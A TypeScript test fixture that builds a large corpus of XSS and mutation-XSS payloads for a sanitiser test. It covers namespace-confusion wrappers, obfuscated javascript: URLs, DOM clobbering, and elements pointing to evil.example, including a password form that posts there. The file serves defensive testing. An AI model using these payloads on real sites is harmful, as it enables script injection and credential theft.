/**
 * Hostile HTML by family. Each way of hiding from a sanitiser is combined with each payload; sanitiser.test.ts counts
 * only those that do harm without the sanitiser. `CALL` is replaced by the call that the test listens for.
 */
export const CALL = 'CALL';

/** Payloads that run by themselves in a page. */
const VECTORS: readonly string[] = [
  `<img src=x onerror=${CALL}>`,
  `<img src="x" ONERROR="${CALL}">`,
  `<img/src=x/onerror="${CALL}">`,
  `<img src=x\nonerror\n=\n'${CALL}'>`,
  `<image src=x onerror=${CALL}>`,
  `<img srcset="x 1x" onerror=${CALL}>`,
  `<picture><source srcset=x><img src=x onerror=${CALL}></picture>`,
  `<video src=x onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<svg onload=${CALL}></svg>`,
  `<svg><image href=x onerror=${CALL}></image></svg>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<style onload=${CALL}></style>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<img src=x onerror=&#${'C'.codePointAt(0)};ALL>`,
];

/** What one parser reads as text, and another as markup after a quoted end tag. */
const RAW = 'noembed xmp textarea noframes title style script iframe noscript'.split(' ');

/** Wrappers that one parser may read as text, comment or another namespace, and another may not. */
const WRAPPERS: Readonly<Record<string, readonly ((vector: string) => string)[]>> = {
  'in the open': [
    (v) => v,
    (v) => `<p><b>${v}</b></p>`,
    (v) => `<a href="https://a.example">${v}</a>`,
    (v) => `<ul><li>${v}</ul>`,
    (v) => `<p>Tekst${'<b>'.repeat(12)}</p>${v}`,
  ],
  'SVG and MathML namespaces': [
    (v) => `<svg><foreignObject>${v}</foreignObject></svg>`,
    (v) => `<svg><desc>${v}</desc></svg>`,
    (v) => `<svg><title>${v}</title></svg>`,
    (v) => `<svg></p>${v}`,
    (v) => `<math><mtext>${v}</mtext></math>`,
    (v) => `<math><mi>${v}</mi></math>`,
    (v) => `<math><annotation-xml encoding="text/html">${v}</annotation-xml></math>`,
    (v) => `<math><mtext><table><mglyph>${v}`,
    (v) => `<math></p><svg><desc>${v}`,
    (v) => `<form><math><mtext></form><form><mglyph><style></math>${v}`,
  ],
  'mutation: style and title read twice': [
    (v) => `<svg></p><style><a id="</style>${v}">`,
    (v) => `<math><mtext><mglyph><style></math>${v}</style>`,
    (v) => `<svg><desc><style><a id="</style>${v}">`,
    (v) => `<svg><style><![CDATA[</style>${v}]]>`,
    (v) => `<style></style>${v}<style></style>`,
    (v) => `<title></title>${v}`,
    (v) => `<math><mtext><style><!--</style>${v}--></style>`,
  ],
  'raw text: noscript, xmp, noembed, textarea …': [
    (v) => `<noembed></noembed>${v}`,
    ...RAW.map((tag) => (v: string) => `<${tag}><p title="</${tag}>${v}">`),
  ],
  'comments, declarations and CDATA': [
    (v) => `<!-->${v}-->`,
    (v) => `<!--->${v}-->`,
    (v) => `<!-- --!>${v}-->`,
    (v) => `<!--<!-- -->${v}-->`,
    (v) => `<!doctype html>${v}`,
    (v) => `<?xml version="1.0"?>${v}`,
    (v) => `<?php >${v} ?>`,
    (v) => `<![CDATA[>${v}]]>`,
    (v) => `</ >${v}`,
    (v) => `<svg><![CDATA[]]></svg>${v}`,
  ],
  'tables, forms and formatting put elsewhere': [
    (v) => `<table>${v}</table>`,
    (v) => `<table><tr>${v}<td>x</td></tr></table>`,
    (v) => `<table><caption>${v}</caption></table>`,
    (v) => `<table><colgroup><col>${v}`,
    (v) => `<b><p></b>${v}</p>`,
    (v) => `<a><table><a>${v}</table></a>`,
    (v) => `<form><div></form>${v}</div>`,
    (v) => `<button><p>${v}</button>`,
    (v) => `<dl><dt><dd><h1><h2>${v}`,
  ],
  'custom elements, depth and odd names': [
    (v) => `<x-lot is="x-lot">${v}</x-lot>`,
    (v) => `<p is="x-lot">${v}</p>`,
    (v) => `<constructor>${v}</constructor>`,
    (v) => `<__proto__>${v}`,
    (v) => `<a:b:c>${v}</a:b:c>`,
    (v) => `<unknown\u00a0x>${v}`,
    (v) => `${'<div>'.repeat(505)}${v}`,
    (v) => `${'<span>'.repeat(120)}${v}${'</span>'.repeat(60)}`,
    (v) => `${'<blockquote><ul><li>'.repeat(80)}${v}`,
    (v) => `\ufeff${v}`,
    (v) => `\u0000<p\u0000>${v}`,
  ],
};

/** Addresses that run script, and how they are dressed up. */
const SCRIPT_ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java&#10;script:${CALL}`,
  `java&#x0d;script:${CALL}`,
  `j&#97;vascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `&#x6A;avascript:${CALL}`,
  `java&Tab;script:${CALL}`,
  `java&NewLine;script:${CALL}`,
  `javascript://a.example/%0a${CALL}`,
  `javascript:/*https://a.example*/${CALL}`,
  `&#14;javascript:${CALL}`,
];

const LINK_CARRIERS: readonly ((address: string) => string)[] = [
  (a) => `<a href="${a}">x</a>`,
  (a) => `<p><a href='${a}' rel=noopener>x</a></p>`,
  (a) => `<a href="https://a.example" href2 HREF="x"></a><a HREF="${a}">x</a>`,
  (a) => `<svg><a href="${a}"><text y=20>x</text></a></svg>`,
  (a) => `<svg><a xlink:href="${a}"><text y=20>x</text></a></svg>`,
  (a) => `<form action="${a}"><button>x</button></form>`,
  (a) => `<form><button formaction="${a}">x</button></form>`,
  (a) => `<iframe src="${a}"></iframe>`,
  (a) => `<math href="${a}"><mtext>x</mtext></math>`,
  (a) => `<map><area href="${a}"></map>`,
  (a) => `<object data="${a}"></object>`,
];

const OTHER_ADDRESSES: readonly string[] = [
  'data:text/html,<script>1</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=1>',
  'vbscript:msgbox(1)',
  'blob:https://a.example/1',
  'filesystem:https://a.example/1',
  'file:///etc/passwd',
  'ftp://a.example/',
  '//evil.example/',
  String.raw`\\evil.example`,
  String.raw`/\evil.example`,
  '/admin',
  '#rent',
  '?search=x',
  'https://bank.example@evil.example/',
  'https:evil.example',
  'intent://x#Intent;end',
  'view-source:https://a.example',
  'mailto:a@b.example?bcc=c@d.example',
  'tel:*%2306%23',
];

const HANDLERS =
  'onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforeinput onbeforematch onbeforetoggle onbeforeunload onblur oncanplay onchange onclick onclose oncontextmenu oncopy oncut ondblclick ondrag ondragend ondrop onerror onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onmousedown onmouseenter onmousemove onmouseover onpaste onpointerdown onpointerenter onpointerrawupdate onresize onscroll onscrollend onscrollsnapchange onsecuritypolicyviolation onselect onselectionchange onslotchange onsubmit ontoggle ontouchstart ontransitionend onunload onwebkitanimationstart onwheel'.split(
    ' ',
  );

const FOREIGN_ATTRIBUTES: readonly string[] = [
  'style="position:fixed;inset:0"',
  'class=page',
  'id=rent',
  'name=body',
  'is=x-evil',
  'slot=x',
  'part=x',
  'exportparts=x',
  'popover',
  'popovertarget=x',
  'contenteditable',
  'autofocus',
  'tabindex=5',
  'accesskey=x',
  'draggable=true',
  'inert',
  'hidden',
  'itemprop=url',
  'aria-hidden=true',
  'role=alert',
  'data-x=1',
  'background=https://evil.example/p.png',
  'ping=https://evil.example/',
  'download=x',
  'nonce=x',
  'integrity=x',
  'xmlns=http://www.w3.org/2000/svg',
  'xml:base=https://evil.example/',
  'xlink:href=https://evil.example/',
  'formaction=https://evil.example/',
  'srcdoc=x',
  'poster=https://evil.example/',
  'dynsrc=https://evil.example/',
  'action=https://evil.example/',
  'usemap=#x',
  'longdesc=https://evil.example/',
];

const CLOBBERED =
  'body head cookie forms location attributes childNodes parentNode firstChild nodeName nodeType children innerHTML textContent ownerDocument getAttribute setAttribute removeAttribute removeChild appendChild insertBefore documentElement defaultView currentScript implementation createElement querySelector __proto__ constructor prototype toString valueOf hasOwnProperty isPrototypeOf root harmed trustedTypes DOMPurify'.split(
    ' ',
  );

const FORBIDDEN_ELEMENTS: readonly string[] = [
  '<base href="https://evil.example/">',
  '<base target="_top">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<meta name=referrer content=unsafe-url>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=prefetch href=https://evil.example/>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<style>body{display:none}</style>',
  '<form action=https://evil.example/><input name=password type=password></form>',
  '<input type=image src=https://evil.example/ >',
  '<isindex action=https://evil.example/>',
  '<embed src=https://evil.example/>',
  '<object data=https://evil.example/></object>',
  '<applet code=x></applet>',
  '<frameset><frame src=https://evil.example/></frameset><portal src=https://evil.example/></portal>',
  '<iframe src=https://evil.example/ sandbox></iframe>',
  '<fencedframe></fencedframe>',
  '<template shadowrootmode=open><p>x</p></template>',
  '<slot name=x>x</slot>',
  '<dialog open>x</dialog>',
  '<marquee>x</marquee>',
  '<blink>x</blink>',
  '<video poster=https://evil.example/></video>',
  '<audio autoplay src=https://evil.example/></audio>',
  '<track src=https://evil.example/>',
  '<svg><use href="data:image/svg+xml,x#x"></use></svg>',
  '<svg><script>1</script></svg>',
  '<svg><set attributeName=href to=javascript:1></set></svg>',
  '<svg><animate attributeName=href values=javascript:1></animate></svg>',
  '<svg><feImage href=https://evil.example/></feImage></svg>',
  '<svg><style>*{x:y}</style></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:1>x</maction></math>',
  '<math><semantics><annotation-xml>x</annotation-xml></semantics></math>',
  '<script type=module>1</script>',
  '<script type=importmap>{}</script>',
  '<script type=speculationrules>{}</script>',
  '<script type="application/ld+json">{}</script>',
  '<noscript>x</noscript>',
  '<plaintext>x',
  '<xmp>x</xmp>',
  '<listing>x</listing>',
  '<canvas></canvas>',
  '<select><option>x</select>',
  '<textarea>x</textarea>',
  '<button>x</button>',
  '<label for=x>x</label>',
  '<output>x</output>',
  '<meter value=1></meter>',
  '<progress></progress>',
  '<x-evil>x</x-evil>',
  '<selectedcontent>x</selectedcontent>',
  '<geolocation>x</geolocation>',
  '<permission type=geolocation>x</permission>',
];

const crossed = <A, B>(
  as: readonly A[],
  bs: readonly B[],
  join: (a: A, b: B) => string,
): string[] => as.flatMap((a) => bs.map((b) => join(a, b)));

/** Family -> payloads. */
export const CORPUS: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    Object.entries(WRAPPERS).map(([family, wrappers]) => [
      family,
      crossed(wrappers, VECTORS, (wrap, vector) => wrap(vector)),
    ]),
  ),
  'script addresses': crossed(LINK_CARRIERS, SCRIPT_ADDRESSES, (carry, address) => carry(address)),
  'other addresses': OTHER_ADDRESSES.map((address) => `<a href="${address}">x</a>`),
  'handlers on allowed elements': HANDLERS.map((name) => `<p ${name}="${CALL}">x</p>`),
  'attributes on allowed elements': crossed(
    ['p', 'a', 'td'],
    FOREIGN_ATTRIBUTES,
    (tag, attribute) =>
      tag === 'td' ? `<table><tr><td ${attribute}>x</table>` : `<${tag} ${attribute}>x</${tag}>`,
  ),
  'DOM clobbering': crossed(
    [
      (name: string) => `<a id="${name}">x</a>`,
      (name: string) => `<form id=f><input name="${name}"></form>`,
      (name: string) => `<img name="${name}">`,
      (name: string) =>
        `<form name="${name}"><a id="${name}" name=x href=https://evil.example>x</a></form>`,
      (name: string) => `<p name="${name}" id="user-content-${name}">x</p>`,
    ],
    CLOBBERED,
    (carry, name) => carry(name),
  ),
  'forbidden elements': crossed(
    [(html: string) => html, (html: string) => `<p>Tekst ${html} tekst</p>`],
    FORBIDDEN_ELEMENTS,
    (carry, html) => carry(html),
  ),
};
